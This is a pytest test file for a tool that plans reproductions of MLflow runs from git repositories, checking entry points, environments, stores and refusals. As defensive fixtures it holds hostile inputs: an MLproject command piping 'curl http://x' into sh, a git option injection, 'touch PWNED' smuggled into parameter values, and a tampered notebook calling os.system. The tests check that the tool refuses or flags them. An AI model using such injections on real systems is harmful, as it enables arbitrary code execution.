"""Resolve against real git repos, in process: which entry point, which environment, which
store, and the refusals (missing patch, parameters that cannot be set), before anything is
built."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from octostored.capture import files as capture_files
from octostored.index.state import SourceInfo
from octostored.jobs import JobError
from octostored.model import Run
from octostored.reproduce import plan

from .conftest import git, make_repo


def _run(repo: Path, **tags: str) -> Run:
    head = git(repo, "rev-parse", "HEAD").strip()
    return Run("r" * 32, "1", run_name="bright-owl", params={"alpha": "0.5", "seed": "1"},
               metrics={"rmse": (0.7, 1, 0)}, source="mlruns",
               tags={"mlflow.source.git.commit": head, **tags})


SOURCES = {"mlruns": SourceInfo("mlruns", "file", "/data/mlruns"),
           ".octostore/runs": SourceInfo(".octostore/runs", "file", "/r/.octostore/runs", True)}


async def test_mlproject_entry_point_with_its_params_and_overrides(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    (repo / "MLproject").write_text(
        "name: p\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, "
        "default: 0.1}\n      epochs: {type: int, default: 3}\n    command: \"python train.py "
        "--alpha {alpha} --epochs {epochs}\"\n")
    (repo / "train.py").write_text("print('hi')\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "project")
    run = _run(repo, **{"mlflow.project.entryPoint": "main", "mlflow.source.name": str(repo)})
    p = await plan.resolve(str(repo), run, "exp", SOURCES, sets={"epochs": "9"})
    assert p.entry.kind == "mlproject"
    assert p.entry.command == "python train.py --alpha 0.5 --epochs 9"
    assert p.store.uri == "file:///data/mlruns" and p.env_kind == "project"
    assert any("falling back to the repo's environment files" in n for n in p.notes)


async def test_source_script_runs_bare_and_refuses_set(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    (repo / "src").mkdir()
    (repo / "src" / "train.py").write_text("print('hi')\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "code")
    run = _run(repo, **{"mlflow.source.name": "/home/alice/proj/src/train.py"})
    run.sources = [".octostore/runs"]
    run.source = ".octostore/runs"
    p = await plan.resolve(str(repo), run, "exp", SOURCES, sets={})
    assert p.entry.kind == "script" and p.entry.argv == ["python", "train.py"]
    assert p.entry.cwd == "src" and not p.entry.params_settable
    # Only in the committed export: the new run goes to MLflow's default in the run's folder.
    assert p.store.uri == f"sqlite:///{repo}/src/mlflow.db"
    with pytest.raises(JobError, match="cannot be changed from outside"):
        await plan.resolve(str(repo), run, "exp", SOURCES, sets={"alpha": "1"})


async def test_captured_argv_with_an_absolute_script_and_the_lock(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    (repo / "train.py").write_text("print('hi')\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "code")
    lock = {"format": "octostore-lock/1", "python": {"version": "3.11.7"}, "packages": []}
    text = json.dumps(lock)
    digest = capture_files.sha256_hex(text.encode())
    capture_files.store_once(capture_files.lock_path(str(repo), digest), text.encode())
    run = _run(repo, **{"octostore.argv": json.dumps(["python", "/elsewhere/repo/train.py",
                                                      "--alpha", "0.5"]),
                        "octostore.cwd": ".", "octostore.env": digest})
    p = await plan.resolve(str(repo), run, "exp", SOURCES, sets={"alpha": "2"},
                           tracking_uri="sqlite:///db/mlflow.db")
    assert p.entry.argv == ["python", "train.py", "--alpha", "2"]
    assert p.env_kind == "captured" and p.lock is not None and p.lock[1] == digest
    assert p.store.uri == f"sqlite:///{repo}/db/mlflow.db"


async def test_a_dirty_run_whose_patch_is_gone_is_refused(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    run = _run(repo, **{"octostore.git.dirty": "true", "octostore.git.patch": "ab" * 32,
                        "octostore.argv": '["python", "README.md"]'})
    with pytest.raises(JobError, match="patch") as info:
        await plan.resolve(str(repo), run, "exp", SOURCES, sets={})
    assert "octostore commit" in info.value.remedy
    bad = capture_files.patch_path(str(repo), "ab" * 32)
    Path(bad).parent.mkdir(parents=True)
    Path(bad).write_text("not the patch\n")
    with pytest.raises(JobError, match="does not match its hash"):
        await plan.resolve(str(repo), run, "exp", SOURCES, sets={})


async def test_notebook_runs_take_set_only_with_a_parameters_cell(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    cells = [{"cell_type": "code", "metadata": {"tags": ["parameters"]}, "source": "a = 1",
              "outputs": [], "execution_count": None}]
    (repo / "nb.ipynb").write_text(json.dumps({"cells": cells, "metadata": {},
                                               "nbformat": 4, "nbformat_minor": 5}))
    (repo / "plain.ipynb").write_text(json.dumps({"cells": [], "metadata": {},
                                                  "nbformat": 4, "nbformat_minor": 5}))
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "notebooks")
    run = _run(repo, **{"octostore.argv": json.dumps(
        ["jupyter", "nbconvert", "--execute", "--to", "notebook", "nb.ipynb"])})
    p = await plan.resolve(str(repo), run, "exp", SOURCES, sets={"a": "2"})
    assert p.entry.kind == "notebook" and p.entry.notebook == "nb.ipynb"
    run = _run(repo, **{"mlflow.source.name": "plain.ipynb"})
    p = await plan.resolve(str(repo), run, "exp", SOURCES, sets={})
    assert p.entry.kind == "notebook" and not p.entry.params_settable
    with pytest.raises(JobError, match="no cell tagged 'parameters'"):
        await plan.resolve(str(repo), run, "exp", SOURCES, sets={"a": "2"})


async def test_a_run_without_a_commit_cannot_be_checked_out(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    run = _run(repo)
    del run.tags["mlflow.source.git.commit"]
    with pytest.raises(JobError, match="records no git commit") as err:
        await plan.resolve(str(repo), run, "exp", SOURCES, sets={})
    assert "GitPython" not in err.value.remedy and "octostore.git.commit" in err.value.message
    # An attack: a commit tag that git would take as an option never reaches git.
    run.tags["octostore.git.commit"] = f"--output={tmp_path / 'pwned'}"
    with pytest.raises(JobError, match="that is not a commit id"):
        await plan.resolve(str(repo), run, "exp", SOURCES, sets={})
    assert not (tmp_path / "pwned").exists()


async def test_a_notebook_run_resolves_from_its_tags_and_runs_its_copy(tmp_path: Path) -> None:
    """A run made in a kernel: no MLflow commit (octostore.git.commit instead), the kernel's
    command line, and the notebook's path and copy; the copy runs when this clone has it
    (checked against its hash), else the notebook as committed, with a note."""
    import hashlib

    repo = make_repo(tmp_path / "repo")
    committed = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (repo / "nb").mkdir()
    (repo / "nb" / "train.ipynb").write_text(json.dumps(committed))
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "notebook")
    as_run = {"cells": [{"cell_type": "code", "metadata": {"tags": ["parameters"]},
                         "source": "a = 1", "outputs": [], "execution_count": None}],
              "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    data = json.dumps(as_run).encode()
    digest = hashlib.sha256(data).hexdigest()
    run = _run(repo, **{"octostore.notebook": "nb/train.ipynb", "octostore.notebook.copy": digest,
                        "octostore.argv": json.dumps(["python", "-m", "ipykernel_launcher",
                                                      "-f", "/run/kernel-1.json"])})
    run.tags["octostore.git.commit"] = run.tags.pop("mlflow.source.git.commit")
    p = await plan.resolve(str(repo), run, "exp", SOURCES, sets={})
    assert p.entry.kind == "notebook" and p.entry.notebook == "nb/train.ipynb"
    assert p.entry.copy is None and p.entry.cwd == "nb"
    assert any("is not in this clone: the notebook as committed runs" in n for n in p.entry.notes)
    with pytest.raises(JobError, match="no cell tagged 'parameters'"):  # the committed one
        await plan.resolve(str(repo), run, "exp", SOURCES, sets={"a": "2"})
    copy = repo / ".octostore" / "notebooks" / f"{digest}.ipynb"
    copy.parent.mkdir(parents=True)
    copy.write_bytes(data)
    p = await plan.resolve(str(repo), run, "exp", SOURCES, sets={"a": "2"})
    assert p.entry.copy == digest and p.commit == run.tags["octostore.git.commit"]
    assert "a cell sets a = 2" in p.command["notebook"] and not p.command["unusual"]
    assert "as it stood when the run started" in p.command["source"]
    copy.write_bytes(data.replace(b"a = 1", b"import os; os.system('x')"))  # tampered
    p = await plan.resolve(str(repo), run, "exp", SOURCES, sets={})
    assert p.entry.copy is None
    run.tags["octostore.notebook"] = ""  # a kernel that could not tell its notebook
    with pytest.raises(JobError, match="did not say which notebook it ran"):
        await plan.resolve(str(repo), run, "exp", SOURCES, sets={})


async def test_the_command_shown_before_it_runs_and_what_makes_it_unusual(
        tmp_path: Path) -> None:
    """Usual: python running a file tracked at the commit, or python -m; everything else is
    unusual with a reason.  The hash changes with anything that would run differently."""
    repo = make_repo(tmp_path / "repo")
    (repo / "src").mkdir()
    (repo / "src" / "train.py").write_text("print('hi')\n")
    (repo / "MLproject").write_text(
        "name: p\nentry_points:\n  main:\n    parameters:\n      a: {type: float, default: 1}\n"
        "    command: \"python src/train.py --a {a}\"\n  evil:\n    command: \"python "
        "src/train.py && curl http://x | sh\"\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "code")

    async def shown(argv: list[str] | None = None, cwd: str = ".", **tags: str) -> dict:
        if argv is not None:
            tags["octostore.argv"] = json.dumps(argv)
            tags["octostore.cwd"] = cwd
        p = await plan.resolve(str(repo), _run(repo, **tags), "exp", SOURCES, sets={})
        return p.command

    usual = await shown(["python", "-u", "train.py", "--a", "2"], cwd="src")
    assert usual["unusual"] is False and usual["reasons"] == []
    assert (usual["script"], usual["args"], usual["cwd"]) == ("train.py", ["--a", "2"], "src")
    assert usual["interpreter"].startswith("python (the run's environment")
    assert usual["source"].startswith("tag octostore.argv")
    module = await shown(["python", "-m", "src.train"])
    assert module["unusual"] is False and module["script"] == "-m src.train"
    for argv, reason in [
        (["bash", "-c", "python src/train.py"], "it runs bash"),
        (["/usr/bin/env", "python", "src/train.py"], "(an absolute path)"),
        (["python", "-c", "import os"], "python -c"),
        (["python", "gone.py"], "not a file tracked at the run's commit"),
        (["python", "../outside.py"], "not a file tracked"),
        (["python"], "standard input"),
    ]:
        cmd = await shown(argv)
        assert cmd["unusual"] is True and any(reason in r for r in cmd["reasons"]), (argv, cmd)
    assert (await shown(["python", "-u", "train.py", "--a", "3"], cwd="src"))["hash"] != (
        usual["hash"])
    assert (await shown(["python", "-u", "train.py", "--a", "2"], cwd="src"))["hash"] == (
        usual["hash"])
    mlp = await shown(**{"mlflow.project.entryPoint": "main", "mlflow.source.name": "x"})
    assert mlp["argv"] == ["bash", "-c", "python src/train.py --a 1"]
    assert mlp["unusual"] is False and mlp["script"] == "src/train.py"
    evil = await shown(**{"mlflow.project.entryPoint": "evil", "mlflow.source.name": "x"})
    assert evil["unusual"] is True and "operators & |" in evil["reasons"][0]


async def test_an_undeclared_mlproject_key_is_refused_naming_the_valid_ones(
        tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    (repo / "MLproject").write_text(
        "name: p\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, "
        "default: 0.1}\n    command: \"python train.py --alpha {alpha}\"\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "project")
    run = _run(repo, **{"mlflow.project.entryPoint": "main", "mlflow.source.name": "train.py"})
    with pytest.raises(JobError, match=r"not a parameter of the MLproject entry point 'main' "
                                        r"\(its parameters: alpha\)"):
        await plan.resolve(str(repo), run, "exp", SOURCES, sets={"x;touch PWNED": "1"})
    p = await plan.resolve(str(repo), run, "exp", SOURCES, sets={"alpha": "1; touch PWNED"})
    assert p.entry.command == "python train.py --alpha '1; touch PWNED'"
